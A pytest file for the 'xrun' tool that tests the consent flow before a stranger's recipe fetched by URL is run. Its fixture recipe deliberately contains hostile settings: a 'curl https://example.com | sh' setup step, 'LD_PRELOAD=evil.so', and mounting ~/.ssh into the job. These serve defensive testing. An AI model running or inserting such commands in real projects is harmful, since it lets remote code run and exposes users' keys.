"""Recipes by URL as commands: what is shown and asked before a stranger's code runs, and what is
remembered of the answer.

Covers `xrun.cli.sharing` and `xrun.launcher.consent`.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.git_host import STRANGER, GitHost, commit, git, strangers_host
from xrun.cli.sharing import fetched
from xrun.launcher.measure import of_recipe
from xrun.recipe.git_url import RecipeURL
from xrun.run.folder import runs_in

pytestmark = pytest.mark.once

XRUN = Path(sys.executable).with_name("xrun")
TRAP = "from pathlib import Path\n\nPath('ran').touch()\nPath.home().joinpath('ran').touch()\n"


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[GitHost]:
    with strangers_host(tmp_path, monkeypatch) as made:
        yield made


def xrun(*arguments: str, answer: str = "") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [XRUN, *arguments], input=answer, capture_output=True, text=True, check=False
    )


def head(host: GitHost) -> str:
    return git(host.root / "stranger.work", "rev-parse", "HEAD")


def test_a_check_runs_nothing(host: GitHost) -> None:
    """Also of a page's URL; what is wrong in it is said at its file and line."""
    work = host.root / "stranger.work"
    at = commit(work, {"models/line.py": TRAP + STRANGER["models/line.py"]})
    done = xrun("check", host.page("stranger", at))
    assert (done.returncode, done.stdout) == (0, f"{host.page('stranger', at)}: tiny is fine.\n")
    assert not (Path(os.environ["HOME"]) / "ran").exists()
    assert list(Path.cwd().iterdir()) == []
    broken = commit(work, {"recipes/tiny.yaml": STRANGER["recipes/tiny.yaml"] + "tasks: x\n"})
    done = xrun("check", host.page("stranger", broken))
    assert done.returncode == 2
    assert "recipes/tiny.yaml:13:1: tasks:" in done.stderr


def test_it_is_shown_what_a_stranger_s_recipe_would_do(host: GitHost) -> None:
    """Code, remote code, commands, libraries, names of secrets, files, images; without a yes
    nothing is run."""
    extra = """\
hardware:
  any_of: [{accelerators: A100:4, clouds: [aws], image: "docker:some/one", setup: make more}]
requirements: [einops]
setup: |
  curl https://example.com | sh
  make
secrets: [THEIR_KEY]
env: {LD_PRELOAD: evil.so}
files: {/keys: ~/.ssh, /data: "s3://bucket"}
checkpoint: {store: "s3://bucket/them"}
tracking: {wandb: {project: p, entity: them}}
"""
    recipe = STRANGER["recipes/tiny.yaml"].partition("checkpoint:")[0] + extra
    (Path(os.environ["HOME"]) / ".ssh").mkdir()
    at = commit(host.root / "stranger.work", {"recipes/tiny.yaml": recipe})
    done = xrun("rehearse", host.recipe("stranger", at))
    assert done.returncode == 3
    shown = {" ".join(line.split()) for line in done.stderr.splitlines()}
    home = os.environ["HOME"]
    assert {
        f"{host.url}/stranger at {at}: recipes/tiny.yaml would",
        "run on each machine: curl https://example.com | sh; make",
        "run on each machine: make more",
        "install einops",
        "fetch s3://bucket to /data (COPY)",
        "be given the secrets THEIR_KEY, WANDB_API_KEY",
        f"be given {home}/.ssh of this machine, as /keys",
        "set LD_PRELOAD=evil.so",
        "train on 1 x A100:4 of aws, image docker:some/one",
        "keep its state in s3://bucket/them",
        "tell Weights & Biases, them/p",
    } <= shown
    own = "datasets/points.py, models/line.py, own/__init__.py, own/width.py"
    assert any(line.startswith(f"run its own {own}, and what they call") for line in shown)
    assert f"Nothing of {host.url}/stranger was run" in done.stderr


def test_a_yes_is_for_one_commit(host: GitHost) -> None:
    """`--yes` with a branch is refused with the URL that has its commit. Then it trains here, says
    where it is from, and the same command again asks nothing and goes on with the same run."""
    done = xrun(host.recipe("stranger", "main"), "--yes")
    assert done.returncode == 2
    url = host.recipe("stranger", head(host))
    assert f"--yes agrees to one commit, and this URL names main. Type '{url}'" in done.stderr
    refused = xrun(url, answer="n\n")
    assert (refused.returncode, list(Path.cwd().iterdir())) == (3, [])
    done = xrun(url, answer="y\n")
    assert done.returncode == 0, done.stderr
    [run] = runs_in(Path.cwd() / "runs")
    plan = run.plan()
    assert plan.shared is not None
    assert (plan.shared.url, plan.code) == (
        url,
        {"commit": head(host), "dirty": False, "url": url},
    )
    again = xrun(url)
    assert again.returncode == 0, again.stderr
    assert "trust" not in again.stderr
    assert [each.run for each in runs_in(Path.cwd() / "runs")] == [run.run]
    shutil.rmtree(Path(os.environ["HOME"]) / ".cache" / "xrun")
    measured = xrun("evaluate", run.run, "--split", "val")
    assert measured.returncode == 0, measured.stderr
    assert measured.stderr.startswith(f"Fetching {host.url}/stranger at {head(host)}")
    source = fetched(RecipeURL.parse(url))
    assert of_recipe(source.path, (), source.origin).folder.path.resolve() == run.path.resolve()
    unknown = xrun("evaluate", url, "-s", "train.seed=7")
    assert (unknown.returncode, unknown.stdout) == (3, "")
    assert unknown.stderr.startswith(f"xrun: {url} has no run here: it would be tiny-")
    other = xrun(url, "-s", "env.LD_PRELOAD=evil.so", "--new")
    assert other.returncode == 3
    assert "set      LD_PRELOAD=evil.so" in other.stderr


def test_components_that_lead_out_are_refused(host: GitHost, tmp_path: Path) -> None:
    """A link to a file of this machine's is no component of a stranger's."""
    (tmp_path / "mine.py").write_text("def build():\n    ...\n")
    work = host.root / "stranger.work"
    (work / "own" / "width.py").unlink()
    (work / "own" / "width.py").symlink_to(tmp_path / "mine.py")
    done = xrun("drill", host.recipe("stranger", commit(work, {})))
    assert done.returncode == 2
    assert "own/width.py is a link that leads out of the repository" in done.stderr
